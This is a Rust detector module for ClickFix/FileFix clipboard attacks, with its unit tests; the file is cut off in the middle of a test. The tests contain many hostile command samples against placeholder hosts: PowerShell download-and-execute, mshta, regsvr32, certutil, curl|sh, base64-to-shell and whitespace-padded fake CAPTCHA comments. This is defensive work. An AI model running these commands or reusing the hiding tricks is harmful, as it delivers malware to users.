@@ -1,0 +1,1062 @@
+//! ClickFix / FileFix: a page puts a shell command on the clipboard and tells the person to run
+//! it (Win+R, Ctrl+V, Enter; or the File Explorer address bar; or Terminal on a Mac), usually
+//! behind a "verify you are human" pretext.
+//!
+//! Two halves, both needed:
+//! * [`recognise`] reads the copied text (untrusted, bounded to [`MAX_CLIPBOARD_BYTES`]) for
+//!   command shapes: PowerShell with a download or a hidden window, mshta with a URL,
+//!   `cmd /c`, rundll32, regsvr32 `/i:http`, msiexec with a URL, certutil and bitsadmin
+//!   downloads, `curl|wget … | sh`, `base64 -d | sh`, osascript, and whitespace padding that
+//!   pushes a harmless-looking `# comment` into view.
+//! * [`assess`] adds what the page says: run-dialog instructions for a Windows command,
+//!   a human-verification pretext (on the page or in the command's own comment), or the padding
+//!   trick. A developer page with a copy button for `curl … | sh` or `npm install` has none of
+//!   these and stays silent.
+
+use super::lexicon::{lexicon, Cat, Hit};
+use super::normalize::{is_invisible, normalize};
+pub use crate::snapshot::MAX_CLIPBOARD_BYTES;
+use crate::snapshot::{truncate_utf8, Snapshot};
+/// Longest command shown in the warning, in characters (an ellipsis marks the cut).
+pub const SHOWN_MAX: usize = 120;
+/// Whitespace before a `#` comment that only serves to push the command out of view (the Run box
+/// shows about 40 characters).
+const PAD_BEFORE_COMMENT: usize = 20;
+/// Whitespace between two parts of a copied text that hides the first part whatever follows.
+const PAD_ANYWHERE: usize = 80;
+
+/// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Platform {
+    Windows,
+    Unix,
+}
+
+/// A recognised command shape.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Shape {
+    /// PowerShell that downloads and/or executes (`iwr`, `irm`, `DownloadString`, `iex`).
+    PowerShellDownload,
+    /// `-EncodedCommand` (any accepted prefix: `-e`, `-enc`, `-ec` …).
+    PowerShellEncoded,
+    /// `-WindowStyle Hidden` / `-w h` / `-w 1`, or `conhost --headless`.
+    PowerShellHidden,
+    /// `powershell` / `pwsh` with nothing more specific.
+    PowerShell,
+    /// `mshta` with a URL, a UNC path or an inline script.
+    MshtaUrl,
+    Mshta,
+    /// `cmd /c`, `/k`, `/r`.
+    Cmd,
+    Rundll32,
+    /// `regsvr32 /i:http…` or `scrobj` (squiblydoo).
+    Regsvr32Url,
+    /// `msiexec` installing from a URL.
+    MsiexecUrl,
+    /// `certutil -urlcache` / `-decode`.
+    Certutil,
+    /// `bitsadmin /transfer`.
+    Bitsadmin,
+    /// `base64 -d | sh`, `echo … | base64 --decode | bash`.
+    Base64Shell,
+    /// `curl`/`wget` downloading a file, `chmod +x` and running it.
+    DownloadExec,
+    /// `osascript` (AppleScript from the shell).
+    Osascript,
+    /// `curl`/`wget` piped to a shell, or `sh -c "$(curl …)"`: also how developer tools install.
+    PipeToShell,
+}
+
+impl Shape {
+    /// Stable identifier, shown in reason details and the CLI.
+    pub fn id(self) -> &'static str {
+        match self {
+            Shape::PowerShellDownload => "powershell_download",
+            Shape::PowerShellEncoded => "powershell_encoded",
+            Shape::PowerShellHidden => "powershell_hidden",
+            Shape::PowerShell => "powershell",
+            Shape::MshtaUrl => "mshta_url",
+            Shape::Mshta => "mshta",
+            Shape::Cmd => "cmd",
+            Shape::Rundll32 => "rundll32",
+            Shape::Regsvr32Url => "regsvr32_url",
+            Shape::MsiexecUrl => "msiexec_url",
+            Shape::Certutil => "certutil_download",
+            Shape::Bitsadmin => "bitsadmin_transfer",
+            Shape::Base64Shell => "base64_to_shell",
+            Shape::DownloadExec => "download_and_run",
+            Shape::Osascript => "osascript",
+            Shape::PipeToShell => "pipe_to_shell",
+        }
+    }
+
+    pub fn platform(self) -> Platform {
+        match self {
+            Shape::Base64Shell | Shape::DownloadExec | Shape::Osascript | Shape::PipeToShell => {
+                Platform::Unix
+            }
+            _ => Platform::Windows,
+        }
+    }
+
+    /// Shapes no developer copy button needs (as opposed to `curl … | sh`, `cmd /c`, a bare
+    /// `powershell`).
+    pub fn strong(self) -> bool {
+        !matches!(
+            self,
+            Shape::PowerShell | Shape::Mshta | Shape::Cmd | Shape::Rundll32 | Shape::PipeToShell
+        )
+    }
+}
+
+/// What the copied text is.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Command {
+    /// Shapes found, strongest first, no duplicates.
+    pub shapes: Vec<Shape>,
+    /// Whitespace padding hides the command behind a comment or far to the right.
+    pub padded: bool,
+    /// The command's own comment reads as a verification pretext ("# I am not a robot").
+    pub comment_pretext: bool,
+    /// The command, defanged and cut short: safe to show, never executable as shown.
+    pub shown: String,
+}
+
+impl Command {
+    /// Whether any shape runs on `p`.
+    pub fn runs_on(&self, p: Platform) -> bool {
+        self.shapes.iter().any(|s| s.platform() == p)
+    }
+    pub fn strong(&self) -> bool {
+        self.shapes.iter().any(|s| s.strong())
+    }
+}
+
+/// A ClickFix finding: a command on the clipboard and what makes it an attack.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ClickFix {
+    pub command: Command,
+    /// Run-dialog / Terminal instructions found on the page (as normalised text, a few).
+    pub instructions: Vec<String>,
+    /// The verification pretext found on the page (or in the command's comment).
+    pub pretext: Option<String>,
+}
+
+/// The clipboard text as the recogniser reads it: lowercase, escapes and quotes that only hide
+/// words from filters removed (`p^o^w^e^r^s^h^e^l^l`, ``i`e`x``, `pow''ershell`), full-width
+/// letters folded, invisible characters out, whitespace runs collapsed to one space.
+fn flatten(raw: &str) -> String {
+    let mut out = String::with_capacity(raw.len());
+    let mut space = false;
+    for c in raw.chars() {
+        if is_invisible(c) || matches!(c, '^' | '`' | '"' | '\'' | '\u{2018}'..='\u{201F}') {
+            continue;
+        }
+        let c = match c as u32 {
+            0xFF01..=0xFF5E => char::from_u32(c as u32 - 0xFEE0).unwrap_or(c),
+            _ => c,
+        };
+        if c.is_whitespace() || c.is_control() {
+            space = !out.is_empty();
+            continue;
+        }
+        if space {
+            out.push(' ');
+            space = false;
+        }
+        for l in c.to_lowercase() {
+            out.push(l);
+        }
+    }
+    out
+}
+
+/// Tokens of a flattened command: separated by spaces and shell punctuation.
+fn tokens(flat: &str) -> Vec<&str> {
+    flat.split([' ', '|', ';', '&', '(', ')', '{', '}', ','])
+        .filter(|t| !t.is_empty())
+        .take(512)
+        .collect()
+}
+
+/// The program name of a token: `C:\Windows\System32\mshta.exe` → `mshta`.
+fn program(tok: &str) -> &str {
+    let base = tok.rsplit(['\\', '/']).next().unwrap_or(tok);
+    base.strip_suffix(".exe").unwrap_or(base)
+}
+
+/// `word` occurs in `flat` with no letter or digit on either side.
+fn has_word(flat: &str, word: &str) -> bool {
+    let b = flat.as_bytes();
+    flat.match_indices(word).any(|(i, _)| {
+        let before = i.checked_sub(1).map(|j| b[j]);
+        let after = b.get(i + word.len()).copied();
+        !before.is_some_and(|x| x.is_ascii_alphanumeric())
+            && !after.is_some_and(|x| x.is_ascii_alphanumeric())
+    })
+}
+
+fn has_url(flat: &str) -> bool {
+    flat.contains("http:")
+        || flat.contains("https:")
+        || flat.contains("\\\\")
+        || flat.contains("ftp:")
+}
+
+/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`).
+fn piped_to_shell(flat: &str) -> bool {
+    const SHELLS: &[&str] = &[
+        "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby", "node",
+    ];
+    flat.split('|').skip(1).any(|after| {
+        after
+            .split(' ')
+            .filter(|t| !t.is_empty())
+            .find(|t| *t != "sudo" && !t.starts_with('-'))
+            .is_some_and(|t| SHELLS.contains(&program(t)))
+    })
+}
+
+/// Shapes in the flattened text.
+fn shapes(flat: &str) -> Vec<Shape> {
+    let toks = tokens(flat);
+    let prog = |name: &str| toks.iter().any(|t| program(t) == name);
+    let mut out = Vec::new();
+
+    // PowerShell: flags can be abbreviated to any unambiguous prefix.
+    let ps = prog("powershell") || prog("pwsh");
+    let ps_exec = ["iex", "invoke-expression", "invoke-command", "icm"]
+        .iter()
+        .any(|w| has_word(flat, w));
+    let ps_fetch = [
+        "iwr",
+        "irm",
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "downloadstring",
+        "downloadfile",
+        "downloaddata",
+        "net.webclient",
+        "start-bitstransfer",
+        "system.net.http",
+    ]
+    .iter()
+    .any(|w| has_word(flat, w));
+    if ps_fetch && (ps_exec || ps || has_word(flat, "start-process")) || (ps || ps_fetch) && ps_exec
+    {
+        out.push(Shape::PowerShellDownload);
+    }
+    if ps {
+        let mut encoded = false;
+        let mut hidden = false;
+        for w in toks.windows(2) {
+            let (flag, val) = (w[0], w[1]);
+            if flag.len() >= 2 && flag.starts_with(['-', '/']) {
+                let f = &flag[1..];
+                if "encodedcommand".starts_with(f) && f.starts_with('e') || f == "ec" {
+                    encoded = true;
+                }
+                if "windowstyle".starts_with(f)
+                    && f.starts_with('w')
+                    && (val.starts_with('h') || val.starts_with("mi") || val == "1" || val == "2")
+                {
+                    hidden = true;
+                }
+            }
+        }
+        if has_word(flat, "frombase64string") {
+            encoded = true;
+        }
+        if encoded {
+            out.push(Shape::PowerShellEncoded);
+        }
+        if hidden {
+            out.push(Shape::PowerShellHidden);
+        }
+        // A bare name is prose ("Windows PowerShell is a shell"); a command has flags.
+        let flagged = toks
+            .iter()
+            .skip_while(|t| !matches!(program(t), "powershell" | "pwsh"))
+            .skip(1)
+            .any(|t| t.starts_with('-'));
+        if out.is_empty() && flagged {
+            out.push(Shape::PowerShell);
+        }
+    }
+    if prog("conhost") && flat.contains("--headless") {
+        out.push(Shape::PowerShellHidden);
+    }
+    if prog("mshta") {
+        let inline = flat.contains("vbscript:") || flat.contains("javascript:");
+        out.push(if has_url(flat) || inline {
+            Shape::MshtaUrl
+        } else {
+            Shape::Mshta
+        });
+    }
+    let cmd_switch = toks.windows(3).any(|w| {
+        matches!(program(w[0]), "cmd" | "%comspec%")
+            && (["/c", "/k", "/r"].contains(&w[1])
+                || w[1].starts_with('/') && ["/c", "/k", "/r"].contains(&w[2]))
+    });
+    let cmd_last = toks.windows(2).any(|w| {
+        matches!(program(w[0]), "cmd" | "%comspec%") && ["/c", "/k", "/r"].contains(&w[1])
+    });
+    if cmd_switch || cmd_last || flat.contains("| cmd") || flat.contains("|cmd") {
+        out.push(Shape::Cmd);
+    }
+    if prog("rundll32") {
+        out.push(Shape::Rundll32);
+    }
+    if prog("regsvr32")
+        && (flat.contains("/i:http") || flat.contains("/i:\\\\") || flat.contains("scrobj"))
+    {
+        out.push(Shape::Regsvr32Url);
+    }
+    if prog("msiexec") && has_url(flat) {
+        out.push(Shape::MsiexecUrl);
+    }
+    if prog("certutil")
+        && ["urlcache", "decode", "decodehex", "verifyctl"]
+            .iter()
+            .any(|f| {
+                toks.iter()
+                    .any(|t| t.len() > 1 && t.starts_with(['-', '/']) && &t[1..] == *f)
+            })
+    {
+        out.push(Shape::Certutil);
+    }
+    if prog("bitsadmin") && (flat.contains("/transfer") || flat.contains("/addfile")) {
+        out.push(Shape::Bitsadmin);
+    }
+
+    // Unix and macOS.
+    let fetch = prog("curl") || prog("wget");
+    let b64 = toks.windows(2).any(|w| {
+        program(w[0]) == "base64" && matches!(w[1], "-d" | "-D" | "--decode" | "-di" | "-id")
+    });
+    let to_shell = piped_to_shell(flat)
+        || ["sh", "bash", "zsh"].iter().any(|s| {
+            toks.windows(2)
+                .any(|w| program(w[0]) == *s && (w[1] == "-c" || w[1].starts_with("<")))
+        });
+    if b64 && to_shell {
+        out.push(Shape::Base64Shell);
+    }
+    if fetch && flat.contains("chmod +x") {
+        out.push(Shape::DownloadExec);
+    }
+    if prog("osascript") {
+        out.push(Shape::Osascript);
+    }
+    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"]
+        .iter()
+        .any(|s| flat.contains(s));
+    if fetch && (to_shell || substituted) {
+        out.push(Shape::PipeToShell);
+    }
+    out.sort();
+    out.dedup();
+    out
+}
+
+/// Characters a whitespace padding is made of: spaces of any width, invisible characters and
+/// Braille blanks (a common "empty" filler).
+fn is_pad(c: char) -> bool {
+    (c.is_whitespace() && c != '\n' && c != '\r') || is_invisible(c) || c == '\u{2800}'
+}
+
+/// Splits `raw` at its longest run of padding that hides what follows: at least
+/// [`PAD_BEFORE_COMMENT`] before a `#`/`<#`/`::`/`rem` comment, or [`PAD_ANYWHERE`] anywhere
+/// between two parts. Returns (command before, text after) when found.
+fn split_padding(raw: &str) -> Option<(&str, &str)> {
+    let mut best: Option<(usize, usize, usize)> = None; // (count, start, end) in bytes
+    let mut run_start = None;
+    let mut count = 0;
+    for (i, c) in raw.char_indices() {
+        if is_pad(c) {
+            if run_start.is_none() {
+                run_start = Some(i);
+                count = 0;
+            }
+            count += 1;
+        } else if let Some(s) = run_start.take() {
+            if best.is_none_or(|(n, _, _)| count > n) {
+                best = Some((count, s, i));
+            }
+        }
+    }
+    let (n, start, end) = best?;
+    let (before, after) = (raw[..start].trim(), raw[end..].trim_start());
+    if before.is_empty() || after.is_empty() {
+        return None;
+    }
+    let rest = after.trim_start_matches(['\'', '"']);
+    let comment = rest.starts_with('#')
+        || rest.starts_with("<#")
+        || rest.starts_with("::")
+        || rest
+            .get(..4)
+            .is_some_and(|p| p.eq_ignore_ascii_case("rem "));
+    (n >= PAD_ANYWHERE || comment && n >= PAD_BEFORE_COMMENT).then_some((before, after))
+}
+
+/// Reads the copied text. `None` when it is not a command this module recognises.
+pub fn recognise(raw: &str) -> Option<Command> {
+    let mut raw = raw.to_string();
+    truncate_utf8(&mut raw, MAX_CLIPBOARD_BYTES);
+    let padding = split_padding(&raw);
+    let flat = flatten(&raw);
+    let shapes = shapes(&flat);
+    if shapes.is_empty() {
+        return None;
+    }
+    let (cmd_part, tail) = padding.unwrap_or((raw.as_str(), ""));
+    // The comment after the padding, or a trailing `# …` on one line, is what the person sees.
+    let comment = if !tail.is_empty() {
+        tail
+    } else {
+        raw.rfind(" #").map(|i| &raw[i + 2..]).unwrap_or("")
+    };
+    let comment_pretext =
+        !comment.is_empty() && pretext_weight(&normalize(comment).skel, None) >= 1.0;
+    Some(Command {
+        shapes,
+        padded: padding.is_some(),
+        comment_pretext,
+        shown: defang(cmd_part),
+    })
+}
+
+/// Weight of verification-pretext phrases in a skeleton (the strongest one counts), and the
+/// first one found.
+fn pretext_weight(skel: &str, first: Option<&mut Option<(usize, usize)>>) -> f32 {
+    let hits = lexicon().find(skel);
+    let best = hits
+        .iter()
+        .filter(|h| h.cat == Cat::VerifyHuman)
+        .max_by(|a, b| a.weight.total_cmp(&b.weight));
+    if let (Some(slot), Some(h)) = (first, best) {
+        *slot = Some((h.start, h.end));
+    }
+    best.map_or(0.0, |h| h.weight)
+}
+
+/// Makes a command safe to show: `http` → `hxxp`, dots between letters or digits → `[.]`,
+/// pipes and command separators bracketed, long encoded payloads cut, control characters and
+/// padding collapsed, at most [`SHOWN_MAX`] characters with an ellipsis. Pasting the result
+/// runs nothing the page meant.
+pub fn defang(raw: &str) -> String {
+    let mut flat = String::with_capacity(raw.len().min(1024));
+    let mut space = false;
+    for c in raw.chars().take(2048) {
+        if is_invisible(c) {
+            continue;
+        }
+        if c.is_whitespace() || c.is_control() || c == '\u{2800}' {
+            space = !flat.is_empty();
+            continue;
+        }
+        if space {
+            flat.push(' ');
+            space = false;
+        }
+        flat.push(c);
+    }
+    let chars: Vec<char> = flat.chars().collect();
+    let mut out = String::with_capacity(flat.len() + 16);
+    let mut i = 0;
+    let mut run = 0; // length of the current base64-looking run
+    while i < chars.len() {
+        let c = chars[i];
+        let prev = i.checked_sub(1).map(|j| chars[j]);
+        let next = chars.get(i + 1).copied();
+        let b64 = c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
+        run = if b64 { run + 1 } else { 0 };
+        if run > 24 {
+            // An encoded payload: keep its start, drop the rest of the run.
+            out.push('…');
+            while i < chars.len()
+                && (chars[i].is_ascii_alphanumeric() || matches!(chars[i], '+' | '/' | '='))
+            {
+                i += 1;
+            }
+            run = 0;
+            continue;
+        }
+        let word = |x: Option<char>| x.is_some_and(|x| x.is_alphanumeric());
+        if matches!(c, 'h' | 'H')
+            && chars[i..]
+                .iter()
+                .take(4)
+                .collect::<String>()
+                .eq_ignore_ascii_case("http")
+        {
+            out.push(c);
+            out.push('x');
+            out.push('x');
+            i += 3;
+            run = 0;
+            continue;
+        }
+        match c {
+            '.' if word(prev) && word(next) => out.push_str("[.]"),
+            '|' | ';' | '&' => {
+                out.push('[');
+                out.push(c);
+                out.push(']');
+            }
+            _ => out.push(c),
+        }
+        i += 1;
+    }
+    if out.chars().count() > SHOWN_MAX {
+        let cut: String = out.chars().take(SHOWN_MAX - 1).collect();
+        return format!("{}…", cut.trim_end());
+    }
+    out
+}
+
+/// The page's text, normalised, with the lexicon hits ClickFix reads.
+pub struct PageHits {
+    base: String,
+    hits: Vec<Hit>,
+}
+
+impl PageHits {
+    /// Normalises `parts` (title, visible text, alt texts) and finds run instructions and
+    /// pretexts. Key combinations are read without spaces around `+` ("Win + R" → "win+r").
+    pub fn new<'a>(parts: impl IntoIterator<Item = &'a str>) -> PageHits {
+        let mut base = String::new();
+        let mut skel = String::new();
+        for p in parts {
+            if p.trim().is_empty() {
+                continue;
+            }
+            let n = normalize(p);
+            base.push_str(" \n ");
+            skel.push_str(" \n ");
+            base.push_str(&n.base);
+            skel.push_str(&n.skel);
+        }
+        let (base, skel) = (join_plus(&base), join_plus(&skel));
+        let hits = lexicon()
+            .find(&skel)
+            .into_iter()
+            .filter(|h| {
+                matches!(
+                    h.cat,
+                    Cat::RunDialog | Cat::PasteStep | Cat::RunTerminal | Cat::VerifyHuman
+                )
+            })
+            .collect();
+        PageHits { base, hits }
+    }
+
+    fn of(&self, cat: Cat) -> impl Iterator<Item = &Hit> {
+        self.hits.iter().filter(move |h| h.cat == cat)
+    }
+
+    /// Sum of the weights of distinct phrases of `cat`.
+    fn weight(&self, cat: Cat) -> f32 {
+        let mut seen = Vec::new();
+        let mut w = 0.0;
+        for h in self.of(cat) {
+            if !seen.contains(&h.phrase) {
+                seen.push(h.phrase);
+                w += h.weight;
+            }
+        }
+        w
+    }
+
+    fn text(&self, h: &Hit) -> String {
+        self.base.get(h.start..h.end).unwrap_or("").to_string()
+    }
+
+    fn texts(&self, cat: Cat) -> Vec<String> {
+        let mut out: Vec<String> = Vec::new();
+        for h in self.of(cat) {
+            let t = self.text(h);
+            if !out.contains(&t) && out.len() < 4 {
+                out.push(t);
+            }
+        }
+        out
+    }
+}
+
+/// Removes spaces around `+` so that "win + r" reads "win+r". Applied to `base` and `skel`
+/// alike: they have the same bytes at every space and `+`, so they stay aligned.
+fn join_plus(s: &str) -> String {
+    let b = s.as_bytes();
+    let mut out = String::with_capacity(s.len());
+    for (i, c) in s.char_indices() {
+        if c == ' ' {
+            let prev_plus = out.ends_with('+');
+            let next_plus = b.get(i + 1) == Some(&b'+');
+            if prev_plus || next_plus {
+                continue;
+            }
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// The verdict half: the copied text is a command AND the page tells the person to run it
+/// (or dresses it as a verification, or hides it behind padding).
+pub fn assess(clipboard: &str, page: &PageHits) -> Option<ClickFix> {
+    assess_command(recognise(clipboard)?, page)
+}
+
+/// [`assess`] for a snapshot: the page's last clipboard write against its title, text and alt
+/// texts. The page text is only normalised again when the copied text is a command.
+pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
+    if snap.clipboard.text.trim().is_empty() {
+        return None;
+    }
+    let command = recognise(&snap.clipboard.text)?;
+    let parts = [snap.title.as_str(), snap.text.as_str()]
+        .into_iter()
+        .chain(snap.alt_texts.iter().map(String::as_str));
+    assess_command(command, &PageHits::new(parts))
+}
+
+fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
+    let run_dialog = page.weight(Cat::RunDialog) >= 1.0;
+    let terminal = page.weight(Cat::RunTerminal) >= 1.0;
+    let paste = page.weight(Cat::PasteStep) >= 1.0;
+    let page_pretext = page
+        .of(Cat::VerifyHuman)
+        .map(|h| h.weight)
+        .fold(0.0f32, f32::max)
+        >= 1.0;
+    let windows_run = run_dialog && command.runs_on(Platform::Windows);
+    // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
+    // Terminal"); only a shape no install command has makes them ClickFix.
+    let mac_run = terminal
+        && paste
+        && command
+            .shapes
+            .iter()
+            .any(|s| s.platform() == Platform::Unix && s.strong());
+    let pretext = page_pretext || command.comment_pretext;
+    if !(windows_run || mac_run || pretext || command.padded) {
+        return None;
+    }
+    let mut instructions = Vec::new();
+    if windows_run {
+        instructions.extend(page.texts(Cat::RunDialog));
+    }
+    if mac_run {
+        instructions.extend(page.texts(Cat::RunTerminal));
+    }
+    if windows_run || mac_run || pretext {
+        instructions.extend(page.texts(Cat::PasteStep).into_iter().take(2));
+    }
+    let pretext = if page_pretext {
+        page.texts(Cat::VerifyHuman).into_iter().next()
+    } else if command.comment_pretext {
+        Some(String::from("#"))
+    } else {
+        None
+    };
+    Some(ClickFix {
+        command,
+        instructions,
+        pretext,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn shapes_of(s: &str) -> Vec<Shape> {
+        recognise(s).map(|c| c.shapes).unwrap_or_default()
+    }
+
+    fn page(text: &str) -> PageHits {
+        PageHits::new([text])
+    }
+
+    fn judged(clip: &str, text: &str) -> bool {
+        assess(clip, &page(text)).is_some()
+    }
+
+    const CAPTCHA: &str = "Verify you are human. Press Win + R, then Ctrl + V, then Enter.";
+
+    #[test]
+    fn powershell_shapes() {
+        let s = shapes_of("powershell -w hidden -c \"iwr https://x.example/a.ps1 | iex\"");
+        assert!(s.contains(&Shape::PowerShellDownload), "{s:?}");
+        assert!(s.contains(&Shape::PowerShellHidden), "{s:?}");
+        assert_eq!(
+            shapes_of("pwsh -EncodedCommand SQBFAFgA"),
+            vec![Shape::PowerShellEncoded]
+        );
+        assert_eq!(
+            shapes_of("powershell.exe -enc SQBFAFgA"),
+            vec![Shape::PowerShellEncoded]
+        );
+        assert_eq!(
+            shapes_of("PowerShell -e SQBFAFgA"),
+            vec![Shape::PowerShellEncoded]
+        );
+        assert_eq!(
+            shapes_of("powershell -WindowStyle Hidden -File a.ps1"),
+            vec![Shape::PowerShellHidden]
+        );
+        assert_eq!(
+            shapes_of("powershell -win 1 calc"),
+            vec![Shape::PowerShellHidden]
+        );
+        // -ExecutionPolicy is not -EncodedCommand.
+        assert_eq!(
+            shapes_of("powershell -ep bypass -File a.ps1"),
+            vec![Shape::PowerShell]
+        );
+        assert_eq!(
+            shapes_of("irm https://x.example/s | iex"),
+            vec![Shape::PowerShellDownload]
+        );
+        assert_eq!(
+            shapes_of("Invoke-Expression (Invoke-WebRequest -Uri https://x.example/p).Content"),
+            vec![Shape::PowerShellDownload]
+        );
+        assert_eq!(
+            shapes_of("powershell -c (New-Object Net.WebClient).DownloadString('https://x.example/a')|IEX"),
+            vec![Shape::PowerShellDownload]
+        );
+        assert!(shapes_of(
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w h -c calc"
+        )
+        .contains(&Shape::PowerShellHidden));
+        assert!(shapes_of("conhost.exe --headless powershell -c calc")
+            .contains(&Shape::PowerShellHidden));
+    }
+
+    #[test]
+    fn obfuscated_names_still_read() {
+        assert!(!shapes_of("p^o^w^e^r^s^h^e^l^l -w h -c calc").is_empty());
+        assert!(shapes_of("pow''ershell -c i`e`x(i`w`r https://x.example)")
+            .contains(&Shape::PowerShellDownload));
+        assert!(!shapes_of("ｐｏｗｅｒｓｈｅｌｌ -enc SQBFAFgA").is_empty());
+        assert!(!shapes_of("pow\u{200B}ershell -enc SQBFAFgA").is_empty());
+        assert!(!shapes_of("POWERSHELL -ENC SQBFAFgA").is_empty());
+    }
+
+    #[test]
+    fn windows_living_off_the_land() {
+        assert_eq!(
+            shapes_of("mshta https://x.example/verify.hta"),
+            vec![Shape::MshtaUrl]
+        );
+        assert_eq!(
+            shapes_of("mshta.exe vbscript:Execute(\"x\")"),
+            vec![Shape::MshtaUrl]
+        );
+        assert_eq!(shapes_of("cmd /c start /min calc"), vec![Shape::Cmd]);
+        assert_eq!(shapes_of("cmd.exe /q /c echo hi"), vec![Shape::Cmd]);
+        assert_eq!(
+            shapes_of("rundll32 \\\\x.example\\s\\a.dll,Run"),
+            vec![Shape::Rundll32]
+        );
+        assert_eq!(
+            shapes_of("regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll"),
+            vec![Shape::Regsvr32Url]
+        );
+        assert_eq!(
+            shapes_of("msiexec /i https://x.example/a.msi /qn"),
+            vec![Shape::MsiexecUrl]
+        );
+        assert_eq!(
+            shapes_of("certutil -urlcache -split -f http://x.example/a.exe a.exe"),
+            vec![Shape::Certutil]
+        );
+        assert_eq!(
+            shapes_of("certutil -decode a.b64 a.exe"),
+            vec![Shape::Certutil]
+        );
+        assert_eq!(
+            shapes_of("bitsadmin /transfer j https://x.example/a.exe %TEMP%\\a.exe"),
+            vec![Shape::Bitsadmin]
+        );
+        assert!(shapes_of("finger s@x.example | cmd").contains(&Shape::Cmd));
+    }
+
+    #[test]
+    fn unix_and_mac_shapes() {
+        assert_eq!(
+            shapes_of("curl -fsSL https://x.example/i.sh | sh"),
+            vec![Shape::PipeToShell]
+        );
+        assert_eq!(
+            shapes_of("wget -qO- https://x.example/i | sudo bash"),
+            vec![Shape::PipeToShell]
+        );
+        assert_eq!(
+            shapes_of("/bin/bash -c \"$(curl -fsSL https://x.example/install.sh)\""),
+            vec![Shape::PipeToShell]
+        );
+        assert_eq!(
+            shapes_of("echo Y3VybCBodHRwczovL3guZXhhbXBsZQ== | base64 -d | bash"),
+            vec![Shape::Base64Shell]
+        );
+        assert!(
+            shapes_of("curl -o /tmp/u https://x.example/u && chmod +x /tmp/u && /tmp/u")
+                .contains(&Shape::DownloadExec)
+        );
+        assert_eq!(
+            shapes_of("osascript -e 'do shell script \"curl x\"'"),
+            vec![Shape::Osascript]
+        );
+    }
+
+    #[test]
+    fn ordinary_copies_are_not_commands() {
+        for s in [
+            "npm install left-pad",
+            "pip install requests",
+            "cargo add serde",
+            "curl -X POST https://api.example/v1 -d '{}'",
+            "git clone https://example.test/repo.git",
+            "Hello, this is my address: 12 Baker Street",
+            "certutil -hashfile a.iso SHA256",
+            "https://example.test/page",
+            "Windows PowerShell is a shell; see docs",
+            "",
+        ] {
+            assert!(recognise(s).is_none(), "{s}");
+        }
+    }
+
+    #[test]
+    fn padding_before_a_comment() {
+        let clip = format!(
+            "cmd /c calc{}# I am not a robot - reCAPTCHA ID 2165",
+            " ".repeat(60)
+        );
+        let c = recognise(&clip).unwrap();
+        assert!(c.padded && c.comment_pretext, "{c:?}");
+        assert_eq!(c.shown, "cmd /c calc");
+        // Padding made of other blanks.
+        let clip = format!(
+            "powershell -c calc{}#  Verification ID: 4411",
+            "\u{3000}\u{2800}\u{00A0}".repeat(10)
+        );
+        assert!(recognise(&clip).unwrap().padded);
+        // A short gap is not padding.
+        let c = recognise("cmd /c calc   # run it").unwrap();
+        assert!(!c.padded && !c.comment_pretext);
+        // Padding with no command before it is no command.
+        assert!(recognise(&format!("hello{}# world", " ".repeat(90))).is_none());
+    }
+
+    #[test]
+    fn padding_alone_is_enough() {
+        // No instructions on the page at all: the hiding trick itself.
+        let clip = format!(
+            "powershell -c calc{}# C:\\\\share\\\\HR\\\\Policy.docx",
+            " ".repeat(70)
+        );
+        assert!(judged(&clip, "Shared document. Open the file."));
+    }
+
+    #[test]
+    fn clickfix_needs_instructions_or_a_pretext() {
+        let ps = "powershell -w hidden -c \"iwr https://x.example/a | iex\"";
+        assert!(judged(ps, CAPTCHA));
+        assert!(judged(
+            ps,
+            "Press Windows key + R, paste with Ctrl+V and press Enter"
+        ));
+        assert!(judged(
+            ps,
+            "Step 1: press Win+X and choose Windows PowerShell (Admin)"
+        ));
+        assert!(judged(
+            "mshta https://x.example/c",
+            "Please complete the verification steps below"
+        ));
+        assert!(judged("cmd /c calc", "I'm not a robot"));
+        // Nothing on the page: a plain command copy stays silent.
+        assert!(!judged(ps, "Our product documentation"));
+        assert!(!judged("cmd /c calc", "Press Enter to continue"));
+    }
+
+    #[test]
+    fn file_explorer_variant() {
+        let clip = "powershell -c iwr https://x.example/p | iex";
+        assert!(judged(
+            clip,
+            "Paste the path into the File Explorer address bar to open the shared file"
+        ));
+        assert!(judged(
+            clip,
+            "Open File Explorer, paste into the address bar and press Enter"
+        ));
+        // Explorer alone is not enough.
+        assert!(!judged(clip, "Open File Explorer to see your files"));
+    }
+
+    #[test]
+    fn run_instructions_in_several_languages() {
+        let clip = "powershell -w h -c iwr https://x.example/p | iex";
+        for text in [
+            "Drücken Sie Windows-Taste + R und fügen Sie ein",
+            "Appuyez sur la touche Windows + R, collez et appuyez sur Entrée",
+            "Presione la tecla Windows + R y pegue el código",
+            "Premi il tasto Windows + R e incolla",
+            "Pressione a tecla Windows + R e cole o texto",
+            "Druk op Windows-toets + R en plak",
+            "Windowsキー + R を押して「ファイル名を指定して実行」を開き、貼り付けます",
+            "Naciśnij klawisz Windows + R i wklej",
+            "Stiskněte klávesu Windows + R a vložte",
+            "Нажмите клавиши Windows + R и вставьте",
+            "Windows tuşu + R'ye basın ve yapıştırın",
+            "Windows 키 + R을 누르고 붙여넣으세요",
+            "按 Windows 键 + R 打开运行对话框，然后粘贴",
+            "Tryck på Windows-tangenten + R och klistra in",
+            "Tryk på Windows-tasten + R og indsæt",
+            "Trykk Windows-tasten + R og lim inn",
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+    }
+
+    #[test]
+    fn pretexts_in_several_languages() {
+        for text in [
+            "Ich bin kein Roboter",
+            "Je ne suis pas un robot",
